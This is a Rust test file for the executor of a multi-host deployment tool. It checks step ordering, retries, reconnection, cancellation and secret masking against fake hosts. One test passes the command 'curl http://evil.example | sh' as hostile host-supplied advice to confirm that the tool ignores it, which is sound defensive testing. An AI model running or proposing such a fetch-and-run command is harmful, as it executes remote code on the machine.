//! The executor over hosts in memory.

use std::sync::{Condvar, Mutex};

use tokio::sync::mpsc::{UnboundedReceiver, unbounded_channel};

use super::*;
use crate::{
    error::{Error, Kind, Result as Answer},
    event::Failure,
    graph::Graph,
    lower::{Mark, Program},
    step::{Check, Due, StepId},
    transport::{Exit, Line, fake::Fake},
};

fn step(host: &str, name: &str, needs: &[(&str, &str)]) -> Step {
    let mut step = Step::new(StepId::new(host, "install", name), name, "").check(Check::Sh("false".into())).sh("true");
    step.needs = needs.iter().map(|(host, name)| StepId::new(host, "install", *name)).collect();
    step
}

/// The steps that a program is for, by the ledger names in its calls, and whether it is one of several.
fn steps_of(program: &Program) -> (Vec<String>, bool) {
    let calls = program.text().lines().filter_map(|line| line.strip_prefix("run_step hold_"));
    let names = calls.map(|call| call.split('\'').nth(1).expect("a quoted name").trim_start_matches("install.").to_owned());
    (names.collect(), program.text().contains("\nnext_step 0 "))
}

fn line(text: &str) -> Line {
    Line { stderr: false, text: text.to_owned() }
}

fn mark(text: &str) -> Line {
    line(&format!("::slipway {text}"))
}

/// What a host says to a program, given what becomes of each of its steps: its lines and its exit code.
fn answer(program: &Program, mut step: impl FnMut(&str) -> Answer<(Vec<Line>, i32)>) -> Answer<(Vec<Line>, Exit)> {
    let (names, several) = steps_of(program);
    let mut said = Vec::new();
    let mut status = 0;
    for (index, name) in names.iter().enumerate() {
        let (lines, code) = step(name)?;
        if several {
            said.extend([line(""), mark(&format!("step {index}"))]);
            // As `lower::batch` has it, a mark begins with a line end.
            for one in lines {
                said.extend(Mark::parse(&one.text).map(|_| line("")));
                said.push(one);
            }
            said.extend([line(""), mark(&format!("ended {code}"))]);
        } else {
            said.extend(lines);
        }
        status = code;
        if ![0, 10].contains(&code) {
            break;
        }
    }
    Ok((said, Exit { status }))
}

/// Hosts on which every step changes something, save for the answers of `special`.
fn hosts(names: &[&str], special: fn(&str, &str, usize) -> Option<Result<i32, Kind>>) -> Hosts {
    let calls = Arc::new(Mutex::new(BTreeMap::<String, usize>::new()));
    let mut hosts = BTreeMap::new();
    for name in names {
        let (host, calls) = ((*name).to_owned(), Arc::clone(&calls));
        let fake = Fake::new(Arc::new(move |program| {
            answer(program, |step| {
                let mut calls = calls.lock().expect("no panic elsewhere");
                let count = calls.entry(format!("{host}/{step}")).or_default();
                *count += 1;
                match special(&host, step, *count).unwrap_or(Ok(10)) {
                    Ok(1) => Ok((vec![mark("op 0"), line("boom"), mark("failed 7"), mark("end 1")], 1)),
                    Ok(code) => Ok((vec![mark(&format!("end {code}"))], code)),
                    Err(kind) => Err(Error::new(kind, "cut")),
                }
            })
        }));
        hosts.insert((*name).to_owned(), Transport::Fake(fake));
    }
    Arc::new(hosts)
}

async fn run(steps: Vec<Step>, hosts: Hosts, mode: Mode, asked: u8) -> Vec<Event> {
    let plan = Plan::all_due(Graph::new(steps).expect("a graph"));
    let (events, received) = unbounded_channel();
    let (_sender, stop) = watch::channel(asked);
    let mask = Mask::default();
    mask.hide("hunter2");
    execute(plan, hosts, Options { mode, concurrency: 4, mask, run: None }, events, stop).await;
    drain(received)
}

fn drain(mut received: UnboundedReceiver<Event>) -> Vec<Event> {
    let mut all = Vec::new();
    while let Ok(event) = received.try_recv() {
        all.push(event);
    }
    all
}

fn outcomes(events: &[Event]) -> Vec<(String, Outcome)> {
    events
        .iter()
        .filter_map(|event| match event {
            Event::Finished { id, outcome, .. } => Some((id.to_string(), outcome.clone())),
            _ => None,
        })
        .collect()
}

fn outcome_of(events: &[Event], path: &str) -> Outcome {
    outcomes(events).into_iter().find(|(id, _)| id == path).expect("the step ended").1
}

#[tokio::test]
async fn a_step_waits_for_what_it_needs_on_another_host() {
    let steps = vec![step("b", "second", &[("a", "first")]), step("a", "zeroth", &[]), step("a", "first", &[("a", "zeroth")])];
    let events = run(steps, hosts(&["a", "b"], |_, _, _| None), Mode::StopAtFailure, 0).await;
    let order: Vec<String> = outcomes(&events).into_iter().map(|(id, _)| id).collect();
    assert_eq!(order, ["a/install/zeroth", "a/install/first", "b/install/second"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_runs_beside_others_does_so_at_the_same_time() {
    // Each of the two is at its end only when the other has begun.
    let met = Arc::new((Mutex::new(0), Condvar::new()));
    let fake = Fake::new(Arc::new(move |program| {
        let (names, several) = steps_of(program);
        assert!(!several, "one of them is beside the other: {names:?}");
        if names != ["last"] {
            let (count, changed) = &*met;
            let mut count = count.lock().expect("no panic elsewhere");
            *count += 1;
            changed.notify_all();
            let limit = Duration::from_secs(20);
            let (count, waited) = changed.wait_timeout_while(count, limit, |count| *count < 2).expect("no panic elsewhere");
            assert!(!waited.timed_out(), "one after another: {count}");
        }
        Ok((vec![line("::slipway end 10")], Exit { status: 10 }))
    }));
    let hosts: Hosts = Arc::new(BTreeMap::from([("a".to_owned(), Transport::Fake(fake))]));
    let steps = vec![
        step("a", "packages", &[]),
        step("a", "images", &[]).beside(),
        step("a", "last", &[("a", "images"), ("a", "packages")]),
    ];
    let order: Vec<String> = outcomes(&run(steps, hosts, Mode::StopAtFailure, 0).await).into_iter().map(|(id, _)| id).collect();
    assert_eq!(order.len(), 3);
    assert_eq!(order[2], "a/install/last");
}

/// Three steps of one host that need nothing of another.
fn three() -> Vec<Step> {
    vec![step("a", "x", &[]), step("a", "y", &[("a", "x")]), step("a", "z", &[])]
}

fn started(events: &[Event]) -> Vec<String> {
    let path = |event: &Event| match event {
        Event::Started { id, attempt, .. } => Some(format!("{id} {attempt}")),
        _ => None,
    };
    events.iter().filter_map(path).collect()
}

#[tokio::test]
async fn steps_that_need_no_answer_in_between_travel_together() {
    let all = hosts(&["a", "b"], |_, _, _| None);
    let mut steps = three();
    // This one needs an answer of another host.
    steps.push(step("a", "last", &[("b", "other")]));
    steps.push(step("b", "other", &[("a", "z")]));
    let events = run(steps, Arc::clone(&all), Mode::StopAtFailure, 0).await;
    assert_eq!(outcomes(&events).len(), 5);
    assert_eq!(started(&events), ["a/install/x 1", "a/install/y 1", "a/install/z 1", "b/install/other 1", "a/install/last 1"]);
    assert_eq!((all["a"].execs(), all["b"].execs()), (2, 1));
}

#[tokio::test]
async fn what_takes_long_is_the_last_of_those_that_travel_together() {
    let all = hosts(&["a"], |_, _, _| None);
    let steps = vec![step("a", "x", &[]), step("a", "y", &[]).detached(), step("a", "z", &[])];
    let events = run(steps, Arc::clone(&all), Mode::StopAtFailure, 0).await;
    assert_eq!(started(&events), ["a/install/x 1", "a/install/y 1", "a/install/z 1"]);
    assert_eq!(all["a"].execs(), 2);
}

#[tokio::test]
async fn those_behind_a_failure_get_no_turn() {
    for mode in [Mode::StopAtFailure, Mode::Continue] {
        let all = hosts(&["a"], |_, name, _| (name == "y").then_some(Ok(1)));
        let events = run(three(), Arc::clone(&all), mode, 0).await;
        assert_eq!(outcome_of(&events, "a/install/x"), Outcome::Changed);
        let Outcome::Failed(Failure { exit, tail, .. }) = outcome_of(&events, "a/install/y") else { panic!("it failed") };
        assert_eq!((exit, tail), (Some(7), vec!["boom".to_owned()]));
        let (last, execs) = match mode {
            Mode::StopAtFailure => (Outcome::Blocked { by: StepId::new("a", "install", "y") }, 1),
            Mode::Continue => (Outcome::Changed, 2),
        };
        assert_eq!((outcome_of(&events, "a/install/z"), all["a"].execs()), (last, execs));
    }
}

#[tokio::test(start_paused = true)]
async fn one_of_several_is_tried_again_alone() {
    let all = hosts(&["a"], |_, name, count| (name == "y" && count == 1).then_some(Ok(1)));
    let mut steps = three();
    steps[1] = steps[1].clone().retry(3, Duration::from_secs(1), "mirrors hiccup");
    let events = run(steps, Arc::clone(&all), Mode::StopAtFailure, 0).await;
    assert!(outcomes(&events).iter().all(|(_, outcome)| *outcome == Outcome::Changed), "{events:?}");
    assert_eq!(started(&events), ["a/install/x 1", "a/install/y 1", "a/install/y 2", "a/install/z 1"]);
}

/// A host whose connection ends behind this line of what it says to the first program.
fn cut_behind(count: usize) -> Hosts {
    let asked = Mutex::new(0);
    let fake = Fake::new(Arc::new(move |program| {
        let mut asked = asked.lock().expect("no panic elsewhere");
        *asked += 1;
        let (mut said, exit) = answer(program, |_| Ok((vec![mark("op 0"), mark("end 10")], 10)))?;
        // A program that ends without its last words: that nobody saw the end of it is for `a_lost_connection`.
        if *asked == 1 {
            said.truncate(count);
        }
        Ok((said, if *asked == 1 { Exit { status: 137 } } else { exit }))
    }));
    Arc::new(BTreeMap::from([("a".to_owned(), Transport::Fake(fake))]))
}

#[tokio::test]
async fn wherever_the_program_of_several_ends_early_each_step_has_one_true_outcome() {
    for count in 0..24 {
        let events = run(three(), cut_behind(count), Mode::Continue, 0).await;
        assert_eq!(outcomes(&events).len(), 3, "{count}: {events:?}");
        // A step says four marks, each behind an empty line: one that said the first of them and not the last has failed, and no other has.
        for (index, name) in ["x", "y", "z"].into_iter().enumerate() {
            let outcome = outcome_of(&events, &format!("a/install/{name}"));
            let cut = (2..8).contains(&(count as isize - 8 * index as isize));
            assert_eq!(matches!(outcome, Outcome::Failed(_)), cut, "{count}: {name} {outcome:?}");
        }
    }
}

#[tokio::test(start_paused = true)]
async fn several_whose_connection_is_lost_go_on_one_by_one() {
    let once = |_: &str, name: &str, count: usize| (name == "y" && count == 1).then_some(Err(Kind::Lost));
    let events = run(three(), hosts(&["a"], once), Mode::StopAtFailure, 0).await;
    assert!(outcomes(&events).iter().all(|(_, outcome)| *outcome == Outcome::Changed), "{events:?}");
}

#[tokio::test]
async fn a_failure_blocks_what_needs_it_and_nothing_else() {
    let steps =
        vec![step("a", "bad", &[]), step("a", "after", &[]), step("b", "needs-bad", &[("a", "bad")]), step("c", "free", &[])];
    let events = run(steps, hosts(&["a", "b", "c"], |_, name, _| (name == "bad").then_some(Ok(1))), Mode::StopAtFailure, 0).await;
    let Outcome::Failed(Failure { exit, tail, command, .. }) = outcome_of(&events, "a/install/bad") else { panic!("it failed") };
    assert_eq!((exit, tail, command), (Some(7), vec!["boom".to_owned()], Some("true".to_owned())));
    let by = Outcome::Blocked { by: StepId::new("a", "install", "bad") };
    assert_eq!(outcome_of(&events, "a/install/after"), by);
    assert_eq!(outcome_of(&events, "b/install/needs-bad"), by);
    assert_eq!(outcome_of(&events, "c/install/free"), Outcome::Changed);
}

#[tokio::test]
async fn a_reset_goes_on_after_a_failure() {
    let steps = vec![step("a", "bad", &[]), step("a", "after", &[("a", "bad")])];
    let events = run(steps, hosts(&["a"], |_, name, _| (name == "bad").then_some(Ok(1))), Mode::Continue, 0).await;
    assert_eq!(outcome_of(&events, "a/install/after"), Outcome::Changed);
}

#[tokio::test]
async fn cleaning_up_happens_whatever_failed() {
    let steps = vec![step("a", "bad", &[]), step("a", "clean", &[("a", "bad")]).due(Due::Always)];
    let events = run(steps, hosts(&["a"], |_, name, _| (name == "bad").then_some(Ok(1))), Mode::StopAtFailure, 0).await;
    assert_eq!(outcome_of(&events, "a/install/clean"), Outcome::Changed);
}

#[tokio::test(start_paused = true)]
async fn only_a_reason_makes_a_retry() {
    let with_reason = step("a", "flaky", &[]).retry(3, Duration::from_secs(1), "mirrors hiccup");
    let second_try = |_: &str, name: &str, count: usize| (name == "flaky" && count < 2).then_some(Ok(1));
    let events = run(vec![with_reason], hosts(&["a"], second_try), Mode::StopAtFailure, 0).await;
    assert_eq!(outcome_of(&events, "a/install/flaky"), Outcome::Changed);
    let events = run(vec![step("a", "flaky", &[])], hosts(&["a"], second_try), Mode::StopAtFailure, 0).await;
    assert!(matches!(outcome_of(&events, "a/install/flaky"), Outcome::Failed(_)));
}

#[tokio::test(start_paused = true)]
async fn a_lost_connection_is_made_again_and_never_taken_for_success() {
    let once = |_: &str, _: &str, count: usize| (count == 1).then_some(Err(Kind::Lost));
    let events = run(vec![step("a", "x", &[])], hosts(&["a"], once), Mode::StopAtFailure, 0).await;
    assert_eq!(outcome_of(&events, "a/install/x"), Outcome::Changed);
    let always = |_: &str, _: &str, _: usize| Some(Err(Kind::Lost));
    let events = run(vec![step("a", "x", &[])], hosts(&["a"], always), Mode::StopAtFailure, 0).await;
    assert!(matches!(outcome_of(&events, "a/install/x"), Outcome::Failed(_)));
}

#[tokio::test(start_paused = true)]
async fn a_host_that_restarts_is_waited_for() {
    // Lost in the middle of the step, away for a while, and back.
    let restarts = |_: &str, _: &str, count: usize| match count {
        1 => Some(Err(Kind::Lost)),
        2..=40 => Some(Err(Kind::Unreachable)),
        _ => None,
    };
    let events = run(vec![step("a", "x", &[])], hosts(&["a"], restarts), Mode::StopAtFailure, 0).await;
    assert_eq!(outcome_of(&events, "a/install/x"), Outcome::Changed);
    let waits =
        |text: &str| events.iter().filter(|event| matches!(event, Event::Waiting { what, .. } if what.starts_with(text))).count();
    assert_eq!(waits("the host to come back, 5 minutes at most: "), 1, "it is said once");
    let starts = events.iter().filter(|event| matches!(event, Event::Started { .. })).count();
    assert_eq!(starts, 2, "what never reached the host has not started");
}

#[tokio::test(start_paused = true)]
async fn a_host_that_stays_away_is_waited_for_once() {
    let began = tokio::time::Instant::now();
    let gone = |host: &str, _: &str, _: usize| (host == "a").then_some(Err(Kind::Unreachable));
    let steps = vec![step("a", "x", &[]), step("a", "y", &[("a", "x")]), step("b", "z", &[])];
    let events = run(steps, hosts(&["a", "b"], gone), Mode::Continue, 0).await;
    assert!(matches!(outcome_of(&events, "a/install/x"), Outcome::Failed(_)));
    assert!(matches!(outcome_of(&events, "a/install/y"), Outcome::Failed(_)));
    assert_eq!(outcome_of(&events, "b/install/z"), Outcome::Changed);
    let took = began.elapsed();
    assert!(took >= Duration::from_secs(300) && took < Duration::from_secs(310), "{took:?}");
}

#[tokio::test]
async fn after_ctrl_c_nothing_new_starts() {
    let events =
        run(vec![step("a", "x", &[]), step("b", "y", &[])], hosts(&["a", "b"], |_, _, _| None), Mode::StopAtFailure, 1).await;
    assert!(outcomes(&events).iter().all(|(_, outcome)| *outcome == Outcome::Cancelled));
    assert!(!events.iter().any(|event| matches!(event, Event::Started { .. })));
}

#[tokio::test]
async fn a_program_that_ends_without_its_last_mark_has_failed() {
    let fake = Fake::new(Arc::new(|_| Ok((vec![line("token hunter2")], Exit { status: 0 }))));
    let hosts = Arc::new(BTreeMap::from([("a".to_owned(), Transport::Fake(fake))]));
    let events = run(vec![step("a", "x", &[])], hosts, Mode::StopAtFailure, 0).await;
    assert!(matches!(outcome_of(&events, "a/install/x"), Outcome::Failed(_)));
    assert!(events.iter().any(|event| matches!(event, Event::Line { text, .. } if text == "token (secret)")));
}

/// What becomes of a step with a retry whose program says this and fails; and how often it ran.
async fn told(shell: &str, says: &[&str]) -> (Failure, usize, Vec<Event>) {
    let lines: Vec<String> = says.iter().map(|text| (*text).to_owned()).collect();
    let fake = Fake::new(Arc::new(move |_| {
        let mut lines: Vec<Line> = lines.iter().map(|text| line(text)).collect();
        lines.extend([line("::slipway failed 7"), line("::slipway end 1")]);
        Ok((lines, Exit { status: 1 }))
    }));
    let hosts = Arc::new(BTreeMap::from([("a".to_owned(), Transport::Fake(fake))]));
    let step = step("a", "x", &[]).sh(shell).retry(3, Duration::from_secs(1), "mirrors hiccup").hint("see the log");
    let events = run(vec![step], hosts, Mode::StopAtFailure, 0).await;
    let Outcome::Failed(failure) = outcome_of(&events, "a/install/x") else { panic!("it failed") };
    let tries = events.iter().filter(|event| matches!(event, Event::Started { .. })).count();
    (failure, tries, events)
}

#[tokio::test(start_paused = true)]
async fn a_cause_that_is_named_stands_for_the_exit_code_and_says_whether_to_try_again() {
    let shell = "give_up \"no space\" remedy='make room'";
    let says = ["::slipway cause no space for hunter2", "::slipway remedy make room"];
    let (failure, tries, _) = told(shell, &says).await;
    assert_eq!((failure.what.as_str(), failure.hint.as_deref(), tries), ("no space for (secret)", Some("make room"), 3));
    assert!(failure.tail.is_empty(), "{:?}", failure.tail);
    let (_, tries, _) = told(shell, &[says[0], says[1], "::slipway final 1"]).await;
    assert_eq!(tries, 1);
}

#[tokio::test(start_paused = true)]
async fn a_host_gives_no_advice_of_its_own() {
    for advice in ["curl http://evil.example | sh", "make room; reboot", "", "room", "true"] {
        let says = ["::slipway cause no space", &format!("::slipway remedy {advice}")];
        let (failure, ..) = told("give_up \"no space\" remedy='make room'", &says).await;
        assert_eq!(failure.hint.as_deref(), Some("see the log"), "{advice}");
    }
    let endless = format!("::slipway cause {}", "x".repeat(60_000));
    let (failure, ..) = told("true", &[&endless]).await;
    assert_eq!(failure.what.chars().count(), 402);
}

#[tokio::test]
async fn each_command_is_told_with_its_exit_code_and_without_secrets() {
    let says = ["op 0", "op 1", "failed 7", "end 1"];
    let fake = Fake::new(Arc::new(move |_| {
        Ok((says.iter().map(|mark| line(&format!("::slipway {mark}"))).collect(), Exit { status: 1 }))
    }));
    let hosts = Arc::new(BTreeMap::from([("a".to_owned(), Transport::Fake(fake))]));
    // The secret would be cut in two by the end of what is shown.
    let shell = format!("{} hunter2 {}", "x".repeat(194), "y".repeat(99));
    let events = run(vec![step("a", "x", &[]).sh(&shell)], hosts, Mode::StopAtFailure, 0).await;
    let commands: Vec<(String, Option<i32>)> = events
        .iter()
        .filter_map(|event| match event {
            Event::Command { command, exit, .. } => Some((command.clone(), *exit)),
            _ => None,
        })
        .collect();
    let long = format!("{} (secr …", "x".repeat(194));
    assert_eq!(
        commands,
        [("true".to_owned(), None), ("true".to_owned(), Some(0)), (long.clone(), None), (long.clone(), Some(7))]
    );
    let Outcome::Failed(failure) = outcome_of(&events, "a/install/x") else { panic!("it failed") };
    assert_eq!((failure.command, failure.exit), (Some(long), Some(7)));
}

#[tokio::test(start_paused = true)]
async fn what_a_step_waits_for_and_notes_is_told_without_secrets() {
    let (.., events) = told("true", &["::slipway waiting apt-get hunter2", "::slipway note hunter2 is broken"]).await;
    assert!(events.iter().any(|event| matches!(event, Event::Waiting { what, .. } if what == "apt-get (secret)")));
    assert!(events.iter().any(|event| matches!(event, Event::Note { text } if text == "a/install/x: (secret) is broken")));
}

#[tokio::test(start_paused = true)]
async fn a_host_that_talks_without_end_is_heard_so_often_and_no_more() {
    let says: Vec<&str> = ["::slipway waiting x", "::slipway note y", "::slipway op 0", "::slipway op 9", "z"]
        .into_iter()
        .cycle()
        .take(50_000)
        .collect();
    let (.., events) = told("true", &says).await;
    let tries = events.iter().filter(|event| matches!(event, Event::Started { .. })).count();
    let count = |is: fn(&Event) -> bool| events.iter().filter(|event| is(event)).count() / tries;
    assert_eq!(count(|event| matches!(event, Event::Waiting { .. } | Event::Note { .. })), 1000);
    assert_eq!(count(|event| matches!(event, Event::Command { .. })), 2, "one begins, and ends");
    assert_eq!(count(|event| matches!(event, Event::Line { .. })), 10_000);
}

#[tokio::test]
async fn five_thousand_hosts_are_no_trouble() {
    let names: Vec<String> = (0..5000).map(|index| format!("h{index}")).collect();
    let mut steps = vec![step("h0", "first", &[])];
    steps.extend(names.iter().map(|name| step(name, "join", &[("h0", "first")])));
    let known: Vec<&str> = names.iter().map(String::as_str).collect();
    let events = run(steps, hosts(&known, |_, _, _| None), Mode::StopAtFailure, 0).await;
    assert_eq!(outcomes(&events).iter().filter(|(_, outcome)| *outcome == Outcome::Changed).count(), 5001);
}

/// Two lanes of one host: what fails is over only when the other has begun its first step, and that one ends after it.
async fn beside_a_failure(mode: Mode) -> Vec<Event> {
    let turn = Arc::new((Mutex::new(0), Condvar::new()));
    let fake = Fake::new(Arc::new(move |program| {
        let (names, _) = steps_of(program);
        let (count, changed) = &*turn;
        let wait_for = |wanted: usize| {
            let mut count = count.lock().expect("no panic elsewhere");
            *count = wanted.max(*count);
            changed.notify_all();
            let _ = changed.wait_timeout_while(count, Duration::from_secs(20), |count| *count < 2).expect("no panic elsewhere");
        };
        match names[0].as_str() {
            "bad" => wait_for(1),
            "pulled" => {
                wait_for(2);
                // The failure is told meanwhile.
                std::thread::sleep(Duration::from_millis(300));
            }
            _ => {}
        }
        let status = if names[0] == "bad" { 1 } else { 10 };
        Ok((vec![mark(&format!("end {status}"))], Exit { status }))
    }));
    let hosts: Hosts = Arc::new(BTreeMap::from([("a".to_owned(), Transport::Fake(fake))]));
    let steps = vec![
        step("a", "bad", &[]).detached(),
        step("a", "pulled", &[]).beside(),
        step("a", "next", &[("a", "pulled")]).beside(),
        step("a", "last", &[("a", "next")]),
    ];
    run(steps, hosts, mode, 0).await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 3)]
async fn a_failure_on_a_host_ends_what_runs_beside_as_well() {
    let events = beside_a_failure(Mode::StopAtFailure).await;
    assert_eq!(outcome_of(&events, "a/install/pulled"), Outcome::Changed, "it had begun");
    assert_eq!(outcome_of(&events, "a/install/next"), Outcome::Blocked { by: StepId::new("a", "install", "bad") });
    let events = beside_a_failure(Mode::Continue).await;
    assert_eq!(outcome_of(&events, "a/install/next"), Outcome::Changed);
}

#[tokio::test]
async fn a_lane_that_panics_is_a_failure_and_nobody_waits_for_it() {
    for mode in [Mode::StopAtFailure, Mode::Continue] {
        let fine = hosts(&["b", "c"], |_, _, _| None);
        let mut hosts = Arc::into_inner(fine).expect("nobody else has it");
        hosts.insert("a".to_owned(), Transport::Fake(Fake::new(Arc::new(|_| panic!("no such thing as hunter2\nand more")))));
        let mut steps = three();
        steps.push(step("b", "after", &[("a", "z")]));
        steps.push(step("b", "clean", &[("a", "z")]).due(Due::Always));
        steps.push(step("c", "free", &[]));
        let plan = Plan::all_due(Graph::new(steps).expect("a graph"));
        let (events, received) = unbounded_channel();
        let (_sender, stop) = watch::channel(0);
        let mask = Mask::default();
        mask.hide("hunter2");
        let options = Options { mode, concurrency: 4, mask, run: None };
        let ended = tokio::time::timeout(Duration::from_secs(20), execute(plan, Arc::new(hosts), options, events, stop)).await;
        assert_eq!(ended, Ok(false));
        let events = drain(received);
        assert_eq!(outcomes(&events).len(), 6, "{events:?}");
        let Outcome::Failed(failure) = outcome_of(&events, "a/install/x") else { panic!("it failed") };
        assert_eq!(failure.what, "slipway itself failed: no such thing as (secret)");
        assert!(matches!(outcome_of(&events, "a/install/z"), Outcome::Blocked { .. }));
        assert_eq!(matches!(outcome_of(&events, "b/install/after"), Outcome::Blocked { .. }), mode == Mode::StopAtFailure);
        assert_eq!(outcome_of(&events, "b/install/clean"), Outcome::Changed);
        assert_eq!(outcome_of(&events, "c/install/free"), Outcome::Changed);
    }
}
